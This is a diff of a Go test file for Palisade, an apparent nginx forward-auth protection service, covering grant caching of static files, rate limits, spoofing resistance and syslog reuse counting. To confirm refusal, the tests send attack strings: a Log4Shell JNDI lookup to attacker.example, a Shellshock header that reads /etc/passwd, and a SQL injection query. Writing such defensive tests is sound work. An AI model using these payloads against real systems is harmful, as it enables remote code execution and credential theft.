@@ -1,6 +1,7 @@
 package deploy_test
 
 import (
+	"bytes"
 	"context"
 	"fmt"
 	"io"
@@ -15,68 +16,83 @@ import (
 	"testing"
 	"time"
 
+	"github.com/palisadehq/palisade/internal/api/reuselog"
 	"github.com/palisadehq/palisade/internal/core"
 	"github.com/palisadehq/palisade/internal/engine"
 	"github.com/palisadehq/palisade/internal/testenv"
 )
 
-// cacheOff is the command palisade.conf's header gives to switch the
-// grant cache off; withoutCache does what it does.
-const cacheOff = `sed -i '/^ *# BEGIN palisade-cache/,/^ *# END palisade-cache/d'`
+// nginxReuseAddr is where the shipped snippets send grant reuse reports
+// (palisade serve --reuse-addr's default); tests point it at their own.
+const nginxReuseAddr = "127.0.0.1:9514"
 
-var (
-	cacheBegin = regexp.MustCompile(`^ *# BEGIN palisade-cache`)
-	cacheEnd   = regexp.MustCompile(`^ *# END palisade-cache`)
-)
+// staticLocation is the location docs/INTEGRATIONS.md and
+// palisade-static.conf's header give for a site's files.
+const staticLocation = `location ~* \.(?:css|js|mjs|png|jpe?g|gif|webp|avif|svg|ico|woff2?|ttf)$ {
+            include PALISADE_CONF/palisade-static.conf;
+            root %s;
+            try_files $uri =404;
+            expires 7d;
+        }`
 
-// withoutCache is a snippet with the grant cache switched off as
-// palisade.conf's header says: sed's range deletion, line by line (the
-// range ends at the first line after its start that matches the end).
-func withoutCache(s string) string {
-	var out []string
-	in := false
-	for _, line := range strings.SplitAfter(s, "\n") {
-		switch {
-		case in:
-			in = !cacheEnd.MatchString(line)
-		case cacheBegin.MatchString(line):
-			in = true
-		default:
-			out = append(out, line)
-		}
-	}
-	return strings.Join(out, "")
+// nginxStaticServer is nginxServer with a static-file location under the
+// grant cache (palisade-static.conf) serving the files of root, and the
+// server-level directives extra.
+func nginxStaticServer(port int, name, key, snippet, root, upstream, extra string) string {
+	return fmt.Sprintf(`
+    server {
+        listen 127.0.0.1:%d;
+        server_name %s;
+        %s
+        set $palisade_key "%s";
+        include PALISADE_CONF/%s;
+        `+staticLocation+`
+        location / { proxy_pass %s; proxy_set_header Host $host; }
+    }`, port, name, extra, key, snippet, root, upstream)
 }
 
-// cacheBlocks are the snippet's grant cache blocks, BEGIN to END lines.
-func cacheBlocks(s string) []string {
-	var blocks []string
-	cur := ""
-	in := false
-	for _, line := range strings.SplitAfter(s, "\n") {
-		switch {
-		case in:
-			cur += line
-			if cacheEnd.MatchString(line) {
-				blocks, in = append(blocks, cur), false
-			}
-		case cacheBegin.MatchString(line):
-			cur, in = line, true
+// staticFiles writes each name (with its folders) into a new folder, each
+// file saying "hello from /<name>".
+func staticFiles(t *testing.T, names ...string) string {
+	t.Helper()
+	root := t.TempDir()
+	for _, n := range names {
+		p := filepath.Join(root, n)
+		if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
+			t.Fatal(err)
+		}
+		if err := os.WriteFile(p, []byte("hello from /"+n), 0o644); err != nil {
+			t.Fatal(err)
 		}
 	}
-	return blocks
+	if err := os.Chmod(root, 0o755); err != nil {
+		t.Fatal(err)
+	}
+	return root
 }
 
-// TestNginxCacheKeyIsTheEngines: the auth location of palisade.conf and
-// palisade-fail-closed.conf keys the cache on the website's key, the host,
-// the method, the full URI, the protocol, the client address and every
-// header of engine.CacheKeyHeaders, in order, and with the cache on passes
-// Palisade exactly those headers (proxy_pass_request_headers off, one
-// proxy_set_header each from the same variable) besides the ones the
-// contract sets itself; without its block, the location is as it was:
-// every header passed, none cached. The sed line the header gives deletes
-// exactly the blocks.
-func TestNginxCacheKeyIsTheEngines(t *testing.T) {
+// locationBody is the body of the location that starts with head in the
+// snippet s ("" if none).
+func locationBody(s, head string) string {
+	i := strings.Index(s, head)
+	if i < 0 {
+		return ""
+	}
+	loc := s[i:]
+	return loc[:strings.Index(loc, "\n}\n")]
+}
+
+// TestNginxSnippetsCacheOnlyStatic: in palisade.conf and
+// palisade-fail-closed.conf the main auth location (and the page and
+// challenge locations) pass every header and set "proxy_cache off;", so
+// neither a grant cache nor a micro-cache of the server {} applies; only
+// /_palisade/auth-static (palisade-static.conf's) caches, keyed on the
+// website's key, the host, the method, the full URI, the protocol, the
+// client address and every header of engine.CacheKeyHeaders, in order,
+// passing Palisade exactly those headers besides the contract's own, to
+// /forward-auth/nginx-static, and reports each cache HIT by syslog.
+// palisade-static.conf sets auth_request only.
+func TestNginxSnippetsCacheOnlyStatic(t *testing.T) {
 	want := []string{"$palisade_key", "$host", "$request_method", "$request_uri", "$server_protocol", "$remote_addr"}
 	for _, h := range engine.CacheKeyHeaders {
 		want = append(want, "$http_"+strings.ReplaceAll(strings.ToLower(h), "-", "_"))
@@ -87,17 +103,32 @@ func TestNginxCacheKeyIsTheEngines(t *testing.T) {
 			t.Fatal(err)
 		}
 		s := string(b)
-		blocks := cacheBlocks(s)
-		if len(blocks) != 1 {
-			t.Fatalf("nginx/%s: %d grant cache blocks, want 1 (in the auth location)", f, len(blocks))
+		for _, head := range []string{"location = /_palisade/auth {", "location = /_palisade/nginx-page {", "location ^~ /_palisade/ {"} {
+			loc := regexp.MustCompile(`(?m)^\s*#.*\n`).ReplaceAllString(locationBody(s, head), "")
+			if loc == "" {
+				t.Fatalf("nginx/%s: no %q", f, head)
+			}
+			if !strings.Contains(loc, "\n    proxy_cache off;\n") {
+				t.Errorf("nginx/%s: %s lacks \"proxy_cache off;\" (a micro-cache of the server {} would apply)", f, head)
+			}
+			if strings.Count(loc, "proxy_cache") != 1 || strings.Contains(loc, "proxy_pass_request_headers") || strings.Contains(loc, "$http_") || strings.Contains(loc, "proxy_ignore_headers") {
+				t.Errorf("nginx/%s: %s caches or filters headers", f, head)
+			}
 		}
-		block := blocks[0]
-		loc := s[strings.Index(s, "location = /_palisade/auth {"):]
-		loc = loc[:strings.Index(loc, "\n}\n")]
-		if !strings.Contains(loc, block) {
-			t.Fatalf("nginx/%s: the grant cache block is not in the auth location", f)
+		if !strings.Contains(locationBody(s, "location = /_palisade/auth {"), "proxy_pass http://palisade/forward-auth/nginx;") {
+			t.Errorf("nginx/%s: the auth location does not ask /forward-auth/nginx", f)
 		}
-		m := regexp.MustCompile(`(?s)proxy_cache_key "([^"]*)";`).FindStringSubmatch(block)
+		loc := locationBody(s, "location = /_palisade/auth-static {")
+		if loc == "" {
+			t.Fatalf("nginx/%s: no location = /_palisade/auth-static", f)
+		}
+		if !strings.Contains(loc, "\n    internal;\n") || !strings.Contains(loc, "proxy_pass http://palisade/forward-auth/nginx-static;") {
+			t.Errorf("nginx/%s: /_palisade/auth-static must be internal and ask /forward-auth/nginx-static", f)
+		}
+		if strings.Count(s, "proxy_cache palisade_grants;") != 1 {
+			t.Errorf("nginx/%s: the grant cache must be in /_palisade/auth-static only", f)
+		}
+		m := regexp.MustCompile(`(?s)proxy_cache_key "([^"]*)";`).FindStringSubmatch(loc)
 		if m == nil {
 			t.Fatalf("nginx/%s: no proxy_cache_key", f)
 		}
@@ -105,16 +136,17 @@ func TestNginxCacheKeyIsTheEngines(t *testing.T) {
 			t.Errorf("nginx/%s: proxy_cache_key is\n%s\nwant (engine.CacheKeyHeaders)\n%s", f, strings.Join(got, " "), strings.Join(want, " "))
 		}
 		for _, d := range []string{"proxy_cache palisade_grants;", "proxy_cache_methods GET HEAD;", "proxy_cache_lock off;", "proxy_cache_use_stale off;",
-			"proxy_ignore_headers Cache-Control Expires;", "proxy_pass_request_headers off;"} {
-			if !strings.Contains(block, "\n    "+d+"\n") {
-				t.Errorf("nginx/%s: the grant cache block lacks %q", f, d)
+			"proxy_ignore_headers Cache-Control Expires;", "proxy_pass_request_headers off;", "log_subrequest on;",
+			"access_log syslog:server=" + nginxReuseAddr + ",nohostname,tag=palisade_reused palisade_reused if=$palisade_cache_hit;"} {
+			if !strings.Contains(loc, "\n    "+d+"\n") {
+				t.Errorf("nginx/%s: /_palisade/auth-static lacks %q", f, d)
 			}
 		}
-		if strings.Contains(block, "proxy_cache_valid") {
+		if strings.Contains(s, "proxy_cache_valid") {
 			t.Errorf("nginx/%s: proxy_cache_valid would cache answers Palisade did not mark (only X-Accel-Expires may)", f)
 		}
-		// What the location sends with the cache on: the key's headers,
-		// each from its key variable, and the contract's own.
+		// What the location sends: the key's headers, each from its key
+		// variable, and the contract's own.
 		sent := map[string]string{}
 		for _, m := range regexp.MustCompile(`(?m)^    proxy_set_header (\S+) (.*);$`).FindAllStringSubmatch(loc, -1) {
 			sent[http.CanonicalHeaderKey(m[1])] = m[2]
@@ -129,32 +161,39 @@ func TestNginxCacheKeyIsTheEngines(t *testing.T) {
 			"X-Original-Host": "$host", "X-Original-Protocol": "$server_protocol", "X-Real-Ip": "$remote_addr", "Connection": `""`, "Content-Length": `""`}
 		for h, v := range sent {
 			if v != `""` && own[h] != v {
-				t.Errorf("nginx/%s: the auth location sends %s %s, which is neither in the key nor the contract's", f, h, v)
+				t.Errorf("nginx/%s: the static auth location sends %s %s, which is neither in the key nor the contract's", f, h, v)
 			}
-		}
-		off := withoutCache(s)
-		if strings.Contains(off, "proxy_cache") || strings.Contains(off, "proxy_pass_request_headers") || strings.Contains(off, "$http_") {
-			t.Errorf("nginx/%s without the grant cache block still caches or filters headers", f)
-		}
-		if len(off) != len(s)-len(block) {
-			t.Errorf("nginx/%s: the sed line deletes %d bytes, the block is %d: a comment line starts or ends a range", f, len(s)-len(off), len(block))
 		}
 	}
 	b, err := os.ReadFile(filepath.Join("nginx", "palisade-upstream.conf"))
 	if err != nil {
 		t.Fatal(err)
 	}
-	if blocks := cacheBlocks(string(b)); len(blocks) != 1 || !strings.Contains(blocks[0], "proxy_cache_path "+nginxCacheDir+" ") || !strings.Contains(blocks[0], "keys_zone=palisade_grants:") {
-		t.Errorf("palisade-upstream.conf: want one grant cache block with proxy_cache_path %s … keys_zone=palisade_grants", nginxCacheDir)
+	up := string(b)
+	for _, d := range []string{"proxy_cache_path " + nginxCacheDir + " ", "keys_zone=palisade_grants:",
+		"log_format palisade_reused 'v1 $palisade_key $upstream_http_x_palisade_reason 1';", "map $upstream_cache_status $palisade_cache_hit {"} {
+		if !strings.Contains(up, d) {
+			t.Errorf("palisade-upstream.conf lacks %q", d)
+		}
 	}
-	conf, _ := os.ReadFile(filepath.Join("nginx", "palisade.conf"))
-	if !strings.Contains(string(conf), "#   "+cacheOff+" palisade.conf palisade-fail-closed.conf palisade-upstream.conf\n") {
-		t.Error("palisade.conf's header no longer says how to switch the grant cache off")
+	b, err = os.ReadFile(filepath.Join("nginx", "palisade-static.conf"))
+	if err != nil {
+		t.Fatal(err)
+	}
+	var directives []string
+	for _, line := range strings.Split(string(b), "\n") {
+		if l := strings.TrimSpace(line); l != "" && !strings.HasPrefix(l, "#") {
+			directives = append(directives, l)
+		}
+	}
+	if strings.Join(directives, "\n") != "auth_request /_palisade/auth-static;" {
+		t.Errorf("palisade-static.conf: %q, want only auth_request /_palisade/auth-static; (the server's auth_request_set and error_page lines apply)", directives)
 	}
 }
 
 // authCounter stands between nginx and Palisade and counts the verdict
-// requests nginx makes, by host, URI, client address and user agent.
+// requests nginx makes, by host, URI, client address and user agent, and
+// by endpoint (endpoint).
 type authCounter struct {
 	to string
 	mu sync.Mutex
@@ -162,9 +201,10 @@ type authCounter struct {
 }
 
 func (c *authCounter) ServeHTTP(w http.ResponseWriter, r *http.Request) {
-	if r.URL.Path == "/forward-auth/nginx" {
+	if r.URL.Path == "/forward-auth/nginx" || r.URL.Path == "/forward-auth/nginx-static" {
 		c.mu.Lock()
 		c.n[r.Header.Get("X-Original-Host")+r.Header.Get("X-Original-Uri")+" "+r.Header.Get("X-Real-Ip")+" "+r.UserAgent()]++
+		c.n[r.URL.Path]++
 		c.mu.Unlock()
 	}
 	out := r.Clone(r.Context())
@@ -180,6 +220,12 @@ func (c *authCounter) ServeHTTP(w http.ResponseWriter, r *http.Request) {
 	}
 	w.WriteHeader(resp.StatusCode)
 	_, _ = io.Copy(w, resp.Body)
+}
+
+func (c *authCounter) endpoint(path string) int {
+	c.mu.Lock()
+	defer c.mu.Unlock()
+	return c.n[path]
 }
 
 func (c *authCounter) count(hostURI, ip, ua string) int {
@@ -213,8 +259,9 @@ func clientFrom(port int, ip string) func(host, path, ua string, hd map[string]s
 
 const firefoxUA = "Mozilla/5.0 (X11; Linux x86_64; rv:133.0) Gecko/20100101 Firefox/133.0"
 
-// TestNginxGrantCache runs the shipped snippets with the grant cache in a
-// real nginx, counting the verdict requests nginx makes to Palisade:
+// TestNginxGrantCache runs the shipped snippets with palisade-static.conf in
+// a static-file location (the grant cache) in a real nginx, counting the
+// verdict requests nginx makes to Palisade:
 //   - a browser's repeated requests are answered from the cache (Palisade
 //     sees one of five), while another query, user agent or client address
 //     misses it;
@@ -236,15 +283,17 @@ func TestNginxGrantCache(t *testing.T) {
 		RateLimits: []engine.RateLimit{{Name: "Everything", Requests: 5, Period: "1m", Action: "deny"}}}))
 	site := httptest.NewServer(siteWithOwnRefusals())
 	defer site.Close()
+	root := staticFiles(t, "page.css", "other.css", "planted.css", "soon-denied.css", "outage.css")
 	counter := &authCounter{to: pal.Addr, n: map[string]int{}}
 	front := httptest.NewServer(counter)
 	defer front.Close()
 	port := freePort(t)
 	startNginxFor(t, nginx, strings.TrimPrefix(front.URL, "http://"),
-		nginxServer(port, "cached.example.com", cached.ServerKey, "palisade.conf", site.URL)+
-			nginxServer(port, "limited.example.com", limited.ServerKey, "palisade.conf", site.URL), nil)
+		nginxStaticServer(port, "cached.example.com", cached.ServerKey, "palisade.conf", root, site.URL, "")+
+			nginxStaticServer(port, "limited.example.com", limited.ServerKey, "palisade.conf", root, site.URL, ""), nil)
 	a, b := clientFrom(port, "127.0.0.1"), clientFrom(port, "127.0.0.2")
 	webGetter(port).waitUp(t, "cached.example.com", "nginx")
+	pagesAsked := counter.endpoint("/forward-auth/nginx") // waitUp's, through location /
 
 	want := func(get func(host, path, ua string, hd map[string]string) (int, string), host, path, ua string, hd map[string]string, code int, what string) {
 		t.Helper()
@@ -261,56 +310,56 @@ func TestNginxGrantCache(t *testing.T) {
 	}
 
 	for i := 0; i < 5; i++ {
-		want(a, "cached.example.com", "/page", chromeUA, nil, 200, "a browser")
+		want(a, "cached.example.com", "/page.css", chromeUA, nil, 200, "a browser")
 	}
-	asked("cached.example.com/page", "127.0.0.1", chromeUA, 1, "a browser's five requests")
-	want(a, "cached.example.com", "/page?id=2", chromeUA, nil, 200, "another query")
-	asked("cached.example.com/page?id=2", "127.0.0.1", chromeUA, 1, "another query")
-	want(a, "cached.example.com", "/page", firefoxUA, nil, 200, "another user agent")
-	asked("cached.example.com/page", "127.0.0.1", firefoxUA, 1, "another user agent")
-	want(b, "cached.example.com", "/page", chromeUA, nil, 200, "another client address")
-	asked("cached.example.com/page", "127.0.0.2", chromeUA, 1, "another client address")
+	asked("cached.example.com/page.css", "127.0.0.1", chromeUA, 1, "a browser's five requests")
+	want(a, "cached.example.com", "/page.css?id=2", chromeUA, nil, 200, "another query")
+	asked("cached.example.com/page.css?id=2", "127.0.0.1", chromeUA, 1, "another query")
+	want(a, "cached.example.com", "/page.css", firefoxUA, nil, 200, "another user agent")
+	asked("cached.example.com/page.css", "127.0.0.1", firefoxUA, 1, "another user agent")
+	want(b, "cached.example.com", "/page.css", chromeUA, nil, 200, "another client address")
+	asked("cached.example.com/page.css", "127.0.0.2", chromeUA, 1, "another client address")
 
 	// Challenged and denied clients: asked every time, never served.
 	for i := 0; i < 3; i++ {
-		want(a, "cached.example.com", "/page", "curl/8.5.0", nil, 403, "curl (challenged)")
-		want(a, "cached.example.com", "/page", "sqlmap/1.7.2#stable", nil, 403, "sqlmap (denied)")
-		want(a, "cached.example.com", "/page?id=1'%20OR%20'1'='1", chromeUA, nil, 403, "an SQL injection (the website firewall)")
+		want(a, "cached.example.com", "/page.css", "curl/8.5.0", nil, 403, "curl (challenged)")
+		want(a, "cached.example.com", "/page.css", "sqlmap/1.7.2#stable", nil, 403, "sqlmap (denied)")
+		want(a, "cached.example.com", "/page.css?id=1'%20OR%20'1'='1", chromeUA, nil, 403, "an SQL injection (the website firewall)")
 	}
-	asked("cached.example.com/page", "127.0.0.1", "curl/8.5.0", 3, "curl, challenged three times")
-	asked("cached.example.com/page", "127.0.0.1", "sqlmap/1.7.2#stable", 3, "sqlmap, denied three times")
+	asked("cached.example.com/page.css", "127.0.0.1", "curl/8.5.0", 3, "curl, challenged three times")
+	asked("cached.example.com/page.css", "127.0.0.1", "sqlmap/1.7.2#stable", 3, "sqlmap, denied three times")
 
 	// Another visitor cannot use the browser's entry by naming its
 	// address or its request: nginx keys on what it saw itself.
-	spoof := map[string]string{"X-Real-Ip": "127.0.0.1", "X-Forwarded-For": "127.0.0.1", "X-Original-Uri": "/page", "X-Original-Host": "cached.example.com",
+	spoof := map[string]string{"X-Real-Ip": "127.0.0.1", "X-Forwarded-For": "127.0.0.1", "X-Original-Uri": "/page.css", "X-Original-Host": "cached.example.com",
 		"X-Original-Method": "GET", "X-Original-Protocol": "HTTP/1.1"}
-	want(b, "cached.example.com", "/page", "sqlmap/1.7.2#stable", spoof, 403, "sqlmap at another address naming the browser's")
-	want(b, "cached.example.com", "/other", "curl/8.5.0", spoof, 403, "curl naming the browser's cached request")
+	want(b, "cached.example.com", "/page.css", "sqlmap/1.7.2#stable", spoof, 403, "sqlmap at another address naming the browser's")
+	want(b, "cached.example.com", "/other.css", "curl/8.5.0", spoof, 403, "curl naming the browser's cached request")
 	// Nor plant an entry for another: the browser's request that follows a
 	// spoofing visitor's is judged on its own.
-	want(b, "cached.example.com", "/planted", chromeUA, map[string]string{"X-Real-Ip": "127.0.0.1"}, 200, "a browser naming another address")
-	want(a, "cached.example.com", "/planted", "sqlmap/1.7.2#stable", nil, 403, "sqlmap after a grant for another visitor's key")
+	want(b, "cached.example.com", "/planted.css", chromeUA, map[string]string{"X-Real-Ip": "127.0.0.1"}, 200, "a browser naming another address")
+	want(a, "cached.example.com", "/planted.css", "sqlmap/1.7.2#stable", nil, 403, "sqlmap after a grant for another visitor's key")
 
 	// A rate-limited website: every request is asked, and the limit holds.
 	refused := 0
 	for i := 0; i < 8; i++ {
-		code, _ := a("limited.example.com", "/page", chromeUA, nil)
+		code, _ := a("limited.example.com", "/page.css", chromeUA, nil)
 		if code == 403 {
 			refused++
 		}
 	}
-	asked("limited.example.com/page", "127.0.0.1", chromeUA, 8, "a rate-limited website's eight requests")
+	asked("limited.example.com/page.css", "127.0.0.1", chromeUA, 8, "a rate-limited website's eight requests")
 	if refused != 3 {
 		t.Errorf("rate limit 5 a minute through nginx with the grant cache: %d of 8 refused, want 3", refused)
 	}
 
 	// A rule change reaches a cached grant within its lifetime.
 	pal.Protector.Engine.SetGrantCache(time.Second)
-	want(a, "cached.example.com", "/soon-denied", chromeUA, nil, 200, "before the rule")
-	want(a, "cached.example.com", "/soon-denied", chromeUA, nil, 200, "before the rule, again")
-	asked("cached.example.com/soon-denied", "127.0.0.1", chromeUA, 1, "before the rule")
+	want(a, "cached.example.com", "/soon-denied.css", chromeUA, nil, 200, "before the rule")
+	want(a, "cached.example.com", "/soon-denied.css", chromeUA, nil, 200, "before the rule, again")
+	asked("cached.example.com/soon-denied.css", "127.0.0.1", chromeUA, 1, "before the rule")
 	ctx := context.Background()
-	st := remoteVisitors(engine.Settings{Rules: []engine.Rule{{Name: "Soon", Action: "deny", Conditions: []engine.Condition{{Field: "path", Op: "is", Value: "/soon-denied"}}}}})
+	st := remoteVisitors(engine.Settings{Rules: []engine.Rule{{Name: "Soon", Action: "deny", Conditions: []engine.Condition{{Field: "path", Op: "is", Value: "/soon-denied.css"}}}}})
 	if _, err := pal.Service.UpdateWebsiteSettings(ctx, pal.Caller, "cached.example.com", st, core.Match{}); err != nil {
 		t.Fatal(err)
 	}
@@ -321,7 +370,7 @@ func TestNginxGrantCache(t *testing.T) {
 	// kept the grant longer (60 s, as above) would not be refused here.
 	deadline := time.Now().Add(10 * time.Second)
 	for {
-		code, _ := a("cached.example.com", "/soon-denied", chromeUA, nil)
+		code, _ := a("cached.example.com", "/soon-denied.css", chromeUA, nil)
 		if code == 403 {
 			break
 		}
@@ -331,24 +380,53 @@ func TestNginxGrantCache(t *testing.T) {
 		time.Sleep(100 * time.Millisecond)
 	}
 
+	// Every verdict request of the static location went to its own
+	// endpoint, none to the full inspection's.
+	if n := counter.endpoint("/forward-auth/nginx") - pagesAsked; n != 0 {
+		t.Errorf("the static location asked /forward-auth/nginx %d times", n)
+	}
+	// A denied visitor on a static location gets Palisade's deny page
+	// (the server's auth_request_set and error_page lines apply there).
+	if code, body := a("cached.example.com", "/page.css", "sqlmap/1.7.2#stable", nil); code != 403 || !pageRef.MatchString(body) || strings.Contains(body, "hello") {
+		t.Errorf("sqlmap on a static file: %d %.200q, want Palisade's deny page", code, body)
+	}
+	// The trade-off palisade-static.conf states: there Palisade sees the
+	// key's headers only. An attack in one of them is refused; one in a
+	// header outside the key is not seen (a file is served, which reads no
+	// header); the same request to a page (palisade.conf) is refused.
+	if code, _ := a("cached.example.com", "/page.css", chromeUA, map[string]string{"Referer": "${jndi:ldap://attacker.example/a}"}); code != 403 {
+		t.Errorf("Log4Shell in Referer (a key header) on a static file: %d, want 403", code)
+	}
+	if code, body := a("cached.example.com", "/page.css", chromeUA, map[string]string{"X-Api-Version": "${jndi:ldap://attacker.example/a}"}); code != 200 || !strings.HasPrefix(body, "hello from ") {
+		t.Errorf("a header outside the key on a static file: %d %.100q; palisade-static.conf passes only the key's headers", code, body)
+	}
+	if code, _ := a("cached.example.com", "/page", chromeUA, map[string]string{"X-Api-Version": "${jndi:ldap://attacker.example/a}"}); code != 403 {
+		t.Errorf("Log4Shell in X-Api-Version on a page (palisade.conf): %d, want 403", code)
+	}
+
 	// Palisade down: a grant cached for 1 s serves until it expires, then
 	// the site is fail-open (palisade.conf) as without the cache: the
 	// counter's address now refuses connections.
-	want(a, "cached.example.com", "/outage", chromeUA, nil, 200, "before the outage")
+	want(a, "cached.example.com", "/outage.css", chromeUA, nil, 200, "before the outage")
 	front.Close()
 	time.Sleep(1500 * time.Millisecond)
-	if code, _ := a("cached.example.com", "/outage", "sqlmap/1.7.2#stable", nil); code != 200 {
+	if code, _ := a("cached.example.com", "/outage.css", "sqlmap/1.7.2#stable", nil); code != 200 {
 		t.Fatalf("fail-open while Palisade is down, with the cache: %d", code)
 	}
 }
 
-// TestNginxWithoutGrantCache runs the snippets with the grant cache
-// switched off as palisade.conf's header says (its blocks deleted), the way
-// bench/compare.sh measures nginx without it: nginx accepts them, and
-// Palisade is asked for every request, with every header the visitor sent.
-func TestNginxWithoutGrantCache(t *testing.T) {
+// TestNginxDefaultPassesEveryHeader runs palisade.conf as shipped (no
+// static location) in a server {} with a micro-cache of its own that every
+// location inherits (proxy_cache, proxy_cache_valid, proxy_ignore_headers
+// Cache-Control Expires, common on hosting): Palisade is asked for every
+// request, with every header the visitor sent (a rule on a header outside
+// the grant cache's key, and Log4Shell in X-Api-Version, refuse), and no
+// verdict is reused: a bot after a browser's grant for the same URI is
+// refused.
+func TestNginxDefaultPassesEveryHeader(t *testing.T) {
 	nginx := testenv.NeedBinary(t, "nginx", "/usr/sbin/nginx")
 	pal := testenv.New(t)
+	pal.Protector.Engine.SetGrantCache(engine.MaxGrantCache)
 	w := pal.Website(t, "shop.example.com", remoteVisitors(engine.Settings{Rules: []engine.Rule{
 		{Name: "Header", Action: "deny", Conditions: []engine.Condition{{Field: "header", Header: "X-Api-Key", Op: "is", Value: "leaked"}}}}}))
 	site := httptest.NewServer(siteWithOwnRefusals())
@@ -357,23 +435,156 @@ func TestNginxWithoutGrantCache(t *testing.T) {
 	front := httptest.NewServer(counter)
 	defer front.Close()
 	port := freePort(t)
-	startNginxFor(t, nginx, strings.TrimPrefix(front.URL, "http://"), nginxServer(port, "shop.example.com", w.ServerKey, "palisade.conf", site.URL), withoutCache)
+	micro := fmt.Sprintf(`
+    proxy_cache_path %s keys_zone=site_micro:1m max_size=10m inactive=1m use_temp_path=off;`, filepath.Join(t.TempDir(), "micro"))
+	server := strings.Replace(nginxServer(port, "shop.example.com", w.ServerKey, "palisade.conf", site.URL), "set $palisade_key",
+		"proxy_cache site_micro; proxy_cache_valid 200 401 403 10s; proxy_ignore_headers Cache-Control Expires Set-Cookie;\n        set $palisade_key", 1)
+	startNginxFor(t, nginx, strings.TrimPrefix(front.URL, "http://"), micro+server, nil)
 	webGetter(port).waitUp(t, "shop.example.com", "nginx")
 	a := clientFrom(port, "127.0.0.1")
+	before := counter.endpoint("/forward-auth/nginx")
 	for i := 0; i < 3; i++ {
 		if code, body := a("shop.example.com", "/page", chromeUA, nil); code != 200 {
 			t.Fatalf("browser: %d %q", code, body)
 		}
 	}
 	if n := counter.count("shop.example.com/page", "127.0.0.1", chromeUA); n != 3 {
-		t.Errorf("without the cache Palisade was asked %d times for three requests", n)
+		t.Errorf("Palisade was asked %d times for three requests", n)
+	}
+	if code, _ := a("shop.example.com", "/page", "sqlmap/1.7.2#stable", nil); code != 403 {
+		t.Errorf("sqlmap after a browser's grant for the same URI, under the site's micro-cache: %d, want 403", code)
+	}
+	if code, _ := a("shop.example.com", "/other", "sqlmap/1.7.2#stable", nil); code != 403 {
+		t.Errorf("sqlmap on another URI, under the site's micro-cache: %d, want 403", code)
 	}
 	// Every header reaches Palisade: a rule on one outside the key, and
 	// the website firewall on any.
 	if code, _ := a("shop.example.com", "/page", chromeUA, map[string]string{"X-Api-Key": "leaked"}); code != 403 {
-		t.Errorf("a rule on a header outside the key, without the cache: %d", code)
+		t.Errorf("a rule on a header outside the grant cache's key: %d", code)
 	}
 	if code, _ := a("shop.example.com", "/page", chromeUA, map[string]string{"X-Api-Version": "${jndi:ldap://attacker.example/a}"}); code != 403 {
-		t.Errorf("Log4Shell in a header outside the key, without the cache: %d", code)
+		t.Errorf("Log4Shell in a header outside the grant cache's key: %d", code)
 	}
+	if code, _ := a("shop.example.com", "/page", chromeUA, map[string]string{"X-Custom": "() { :; }; /bin/cat /etc/passwd"}); code != 403 {
+		t.Errorf("Shellshock in X-Custom: %d", code)
+	}
+	if n := counter.endpoint("/forward-auth/nginx") - before; n != 8 {
+		t.Errorf("Palisade was asked %d times for 8 requests", n)
+	}
+	if n := counter.endpoint("/forward-auth/nginx-static"); n != 0 {
+		t.Errorf("without a static location, /forward-auth/nginx-static was asked %d times", n)
+	}
+}
+
+// TestNginxStaticReusesAreCounted: a browser loads a page (palisade.conf)
+// with its 20 assets (palisade-static.conf), twice within the grant's
+// lifetime. Palisade decides 22 requests (both pages, each asset once);
+// nginx answers the 20 others from the grant cache and reports each by
+// syslog to a reuselog listener, one line per cache HIT and none per MISS:
+// the website's minute counters count all 42 requests. The host's own
+// access log of the requests (a server-level access_log) still logs each
+// of the 42 once.
+func TestNginxStaticReusesAreCounted(t *testing.T) {
+	nginx := testenv.NeedBinary(t, "nginx", "/usr/sbin/nginx")
+	pal := testenv.New(t)
+	pal.Protector.Engine.SetGrantCache(engine.MaxGrantCache)
+	w := pal.Website(t, "count.example.com", remoteVisitors(engine.Settings{}))
+	site := httptest.NewServer(siteWithOwnRefusals())
+	defer site.Close()
+	var assets []string
+	for i := 0; i < 20; i++ {
+		assets = append(assets, fmt.Sprintf("assets/a%02d.%s", i, []string{"css", "js", "png", "woff2"}[i%4]))
+	}
+	root := staticFiles(t, assets...)
+	counter := &authCounter{to: pal.Addr, n: map[string]int{}}
+	front := httptest.NewServer(counter)
+	defer front.Close()
+
+	pc, err := net.ListenPacket("udp", "127.0.0.1:0")
+	if err != nil {
+		t.Fatal(err)
+	}
+	reports := reuselog.New(pal.Protector.Engine, pal.Recorder, nil, nil)
+	ctx, cancel := context.WithCancel(context.Background())
+	defer cancel()
+	go func() { _ = reports.Serve(ctx, pc) }()
+
+	port := freePort(t)
+	accessLog := filepath.Join(t.TempDir(), "site-access.log")
+	startNginxFor(t, nginx, strings.TrimPrefix(front.URL, "http://"),
+		nginxStaticServer(port, "count.example.com", w.ServerKey, "palisade.conf", root, site.URL, "access_log "+accessLog+";"),
+		func(s string) string { return strings.ReplaceAll(s, nginxReuseAddr, pc.LocalAddr().String()) })
+	a := clientFrom(port, "127.0.0.1")
+	// Up: one asset request that is then not counted below.
+	deadline := time.Now().Add(10 * time.Second)
+	for {
+		if code, _ := a("count.example.com", "/up.txt", chromeUA, nil); code != 0 {
+			break
+		}
+		if time.Now().After(deadline) {
+			t.Fatal("nginx did not start")
+		}
+		time.Sleep(50 * time.Millisecond)
+	}
+	startCount := countedRequests(t, pal, "count.example.com")
+
+	for load := 0; load < 2; load++ {
+		if code, body := a("count.example.com", "/shop", chromeUA, nil); code != 200 || body != "hello from count.example.com/shop" {
+			t.Fatalf("load %d: the page: %d %q", load, code, body)
+		}
+		for _, p := range assets {
+			if code, body := a("count.example.com", "/"+p, chromeUA, nil); code != 200 || body != "hello from /"+p {
+				t.Fatalf("load %d: /%s: %d %q", load, p, code, body)
+			}
+		}
+	}
+	if n, m := counter.endpoint("/forward-auth/nginx"), counter.endpoint("/forward-auth/nginx-static"); n != 3 || m != 20 {
+		t.Errorf("Palisade decided %d pages (want 2, and the start-up probe) and %d assets (want 20: the second load from the cache)", n, m)
+	}
+	// The reports are UDP: wait (bounded) for the counters.
+	deadline = time.Now().Add(10 * time.Second)
+	var got int64
+	for {
+		got = countedRequests(t, pal, "count.example.com") - startCount
+		if got >= 42 || time.Now().After(deadline) {
+			break
+		}
+		time.Sleep(100 * time.Millisecond)
+	}
+	time.Sleep(300 * time.Millisecond) // any stray report (a MISS logged) would arrive by now
+	got = countedRequests(t, pal, "count.example.com") - startCount
+	if got != 42 {
+		t.Errorf("42 requests served (20 from the grant cache), %d counted in the website's statistics", got)
+	}
